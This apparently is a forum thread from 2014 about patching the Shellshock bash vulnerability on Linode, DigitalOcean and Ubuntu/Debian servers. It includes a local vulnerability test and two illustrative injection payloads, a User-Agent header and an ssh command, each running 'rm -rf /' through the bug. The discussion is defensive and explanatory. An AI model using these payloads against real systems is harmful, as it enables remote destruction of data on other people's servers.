Depends on whether you have mirrors.linode.com or the ubuntu servers set up in sources.list. I had to swap mine out.

Well, I didn't even know about mirrors.linode.com. Mine were still the ubuntu default servers.

I guess apt-get from one of Linode's mirrors saves bandwidth? Or is it just more polite?

It probably ensures that you get the Linode-customized flavors of packages where such exist, so that, for example, you don't inadvertently upgrade your kernel to a build without the ability to mount Linode disks.

Linode can't modify packages; they're signed by the upstream distro. (Unless Linode added a key of their own to your apt keychain (apt-key list), but I've never seen that.)

It's also meant to help you and Linlde save bandwidth!Or just manually install the new version with dpkg.

Ifyou just want to update that package then:

apt-get update

apt-get install --only-upgradebash

fwiw, Linode's mirrors are up with the latest version yet Digital Ocean's are not. I lose faith in DO everytime I remote into my VM. They just seen like an amateurish shop.

My droplets in SFO have been updated. My droplets in nyc1 and nyc2 haven't.

And NY is updated for me as well now. Wondering why it took so long after the other DCs were updated.

Checking in 8 hours later - my droplet on nyc1 is still affected.

I successfully upgraded bash on my droplets a couple minutes ago.

Seconded. I've been patched for ~40 minutes on DO.

I am on linode and precise LTS. I did this, and I got no bash update. What am I doing wrong?

edit: and how do I know if I am still vulnerable?

edit2: ok, this is the test

  env x='() { :;}; echo vulnerable' bash -c "echo this is a test"
and apparently I am already patched. So that's good.dpkg -l | grep bash

WIll tell you which version of bash is installed, for precise you should have bash 4.2-2ubuntu2.2

DigitalOcean uses mirrors too, so you have to change your /etc/apt/sources.list file or wait.

I updated debian on DO like 25 minutes ago and had a crystal-clear bash update there. So I guess they updated their mirrors.

Debian security updates are distributed from security.debian.org, which is separate from the normal Debian mirror network, and Debian discourages the mirroring of security.debian.org because security updates are time sensitive. Hopefully Digital Ocean is not mirroring security.debian.org.

You should also reboot to ensure no running instances of bash are vulnerable.

If I understood this bug correctly, it happens during bash's initialization. If I'm right, already running instances of bash are not vulnerable, and new instances will use the fixed executable, so no reboot would be necessary for this bug.

  $ apt-cache show debian-goodies
    checkrestart    - Help to find and restart processes which are using old
                      versions of upgraded files (such as libraries)

The vulnerability is in bash startup; any already-running shells should be safe.

Good point.

I don't know if Ubuntu has pushed a patched version of bash, but bash is what you should update. Someone already posted a way to test whether your version is vulnerable.

You might also look into changing the default shell (but beware, scripts withbashisms in them...).

Ubuntu pushed the update around noon


Really? I haven't been able to find any notice of that, and on 14.04 LTS if I run `sudo apt-get install --only-upgrade bash` I'm still vulnerable.

Ah, looks like I needed to run `sudo apt-get update` first.

sudo apt-get update && sudo apt-get upgrade

yeah, it was updated in debian in the morning...

you should update all security updates, reliably, periodically, regardless of HN posts.

you're probably not directly vulnerable for this very vuln, but then again,maybe you are. with enough vulns it gets complex enough to check that its easier to just update with all the security updates..

We just updated our scanner and included this CVE. You can run Detectify to see if your setup is vulnerable. We offer a recurring service that runs continuously and alerts you if you are exposed to newemerging vulnerabilities. This removes some of the complexity of always being on top of security alerts.

sup advertiser

If you're still waiting for mirrors and such to sync, you can install these packages manually on the LTS releases with the snippet here:


Looks like the patched version and the pre-patched version show the same version, or am I being stupid and missing something ?

  ayourtch@mcmini:~/bash-patch$ ls
  bash_4.2-2ubuntu2.2_amd64.deb bash-builtins_4.2-2ubuntu2.2_amd64.deb  t
  ayourtch@mcmini:~/bash-patch$ dpkg -x bash_4.2-2ubuntu2.2_amd64.deb t
  ayourtch@mcmini:~/bash-patch$ diff -c t/bin/bash /bin/bash
  Binary files t/bin/bash and /bin/bash differayourtch@mcmini:~/bash-patch$ t/bin/bash --version
  GNU bash, version 4.2.25(1)-release (x86_64-pc-linux-gnu)
  Copyright (C) 2011 Free Software Foundation, Inc.
  License GPLv3+: GNU GPL version 3 or later <http://gnu.org/licenses/gpl.html>

  This is free software; you are free to change and redistribute it.
  There is NO WARRANTY, to the extent permitted by law.
  ayourtch@mcmini:~/bash-patch$ /bin/bash --version
  GNU bash, version 4.2.25(1)-release (x86_64-pc-linux-gnu)
  Copyright (C) 2011 Free Software Foundation, Inc.
  License GPLv3+: GNU GPL version 3 or later <http://gnu.org/licenses/gpl.html>This is free software; you are free to change and redistribute it.
  There is NO WARRANTY, to the extent permitted by law.
  ayourtch@mcmini:~/bash-patch$ sha1sum t/bin/bash
  9eeed02173db163b013933eff3b8c6aa3697f67f  t/bin/bash
  ayourtch@mcmini:~/bash-patch$ sha1sum /bin/bash
  3384fadf84146a4d4b6b7f529f615e9947b4ac99  /bin/bash

Only the build/patchset version is incremented in these packages (the -2ubuntu2.2). You can see the package version with dpkg -s bash | grep Version.

Anyone have code that might work on 13.04 please?

It will be once they release a patch, yes


Already out on Ubuntu, I believe?A good question that so far nobody has answered (as of right now).

"If you are responsible for the security of any system, this is your immediate, drop-everything priority."

Why don't you explain in plain english exactly why you feel this is the case? "Drop-everything" in other words (or even close to that). Give some scenarios. After all anyone who knows a great deal doesn't need that advice the people who need that advice are ones that don't know enough to know what the impact of this is. [1]

Perhaps you could clarify with some examples of why (see child comment "So, as a amateur sysadmin of a decently popular side project") you think this applies to anyone who is "responsible for the security of any system"?

[1] Me for one because I'm not seeing the "Drop everything" priority for any of the systems that I have control over given the way they are configured. That said I'd like to hear more of course.

Any library anywhere in any application you run that calls out to bash that is called by any other library in that application, so long as that application is somehow hooked up to a web server, is potentially an unauthenticated GET request away from code execution; the exploit for this is potentially so simple that attackers can craft a single request, spider the Internet, and collect shells from applications you run that you forgot you evenran, at which point they'll own your whole data center.


Very much so. I wasn't thinking through the library (and library equivalent) implications.

So for example if you don't run web servers that are front facing on the internet (and you trust your (for example) intranet) then does this become an "asap" rather than a "drop everything"?

"is potentially an unauthenticated GET request"

Are you saying that if you don't have a web server that allows "get" requests (only posts) then this exploit is not an issue at all?

The attack surface of this bug may very well be the largest attack surface of any bug in history. Update bash. Just update bash. Everywhere. On everything you have it on. Don't think about whether, just think about how.

(Note I'm not claiming this is the "worst bug ever"... there's stiff competition for that claim. But most of the rest of the "worst bug ever"s I can think of are some point that failed, some particular thing you could do for full root access or something. I can't think of anything else with this sheer staggering surface area.)

No, that is not what tptacek is saying.

Unauthenticated GET requests were just an example of something that can invoke this behavior. If you have any network-enabled service that's capable of spawning a shell, you can have attack vectors open.

Possiblevectors include things like DHCP clients, SSH, web servers, etc. Lots of things open shells for reasons you wouldn't intuitively expect. It's very likely that there are many creative vectors for exploitation that will be discovered inthe coming hours.

Read "unauthenticated GET request" as "people who can do the very very simplest thing to your webserver will find this."

I'm sure that the people at Home Depot knew for certain that their network was secure right up until the moment they discovered they were hacked.

You can learn by experience, or you can try to leach the wisdom of others.

I like the DHCP attack vector which was mentioned in the RedHat posting. DHCP clients invoke shell scripts.

Just curious, how long can a wireless SSID be?

I ask because I've seen SSIDs with meaningful characters ()<>;? cause trouble with some network managers. I presumed at the time that this was due to the SSID string being passed as an argument to some script.

I've encountered this on my old Android phone and my old Debian laptop. I encountered it often because a friend of mine used to have an emoticon in the SSID for his home router. (Really annoying! I couldn't connect to anything when his router was in range.)

Note: it could very well have been a different problem. I didn't investigate.

Are you saying that if you don't have a web server that allows "get" requests (only posts) then this exploit is not an issue at all?

Usuallyno. This exploit should be vulnerable to any HTTP method. "unathenticed GETs" are the lowest security level of HTTP calls, so if they can be used as an attack vector, you should pay attention.

Because this allows execution of arbitrary commands from any unsantized environment variable.

Web servers pass information about the HTTP client to CGI scripts using environment variables. A CGI script written in bash would be vulnerable to arbitrary command execution if any HTTP header contained the vulnerable string.

    GET / HTTP/1.0
    User-Agent: () { :; }; rm -rf /
Restricted SSH accounts (like the ones used by GitHub) have a setting to restrict the user to a specific command (e.g. /usr/local/bin/run-git-only --github-user=octocat). The original command is passed in an environment variable SSH_ORIGINAL_COMMAND. If bash is used anywhere along the way (say, if /usr/local/bin/run-git-only--github-user=octocat is a shell script), then this is a problem:

    ssh git@example.com '() { :; }; rm -rf /'
There are surely lots of other ways to get servers to run bash shells with arbitrary environment variables. That's why this is bad.

Edit: as others have pointed out, even non-bash CGIscripts that use a shell to run external processes are vulnerable For example, system("/usr/local/bin/whatever --some-fixed-option") would normally be considered safe since there's no untrusted data in the command-line (although perhaps it would be considered poor design), but it'll run a shell to do the whitespace splitting. If that shell is bash....

Is this also dangerous to common FastCGI-Wrappers? E.g. this is used by Virtualmin:

    export PHPRC
    umask 022
    exec /usr/bin/php5-cgi
At least SCRIPT_FILENAME is user input isn't it? I'm really not sure but like to have some clarity. It should not work because it's likely impossible to have () at the beginning of the SCRIPT_FILENAME? but can someone give some hints? It's common to have bash/sh wrapper script: https://httpd.apache.org/mod_fcgid/mod/mod_fcgid.html#exampl...

IIUC, you're already pwned after the first line of your wrapper script, i.e. #!/bin/bash, as your CGI environment was already set before, and now you're running bash in it (unless FastCGI works differently, not by setting the environment as plain old CGI; I don't know FastCGI, but from a quick glance I think it workssimilarly)

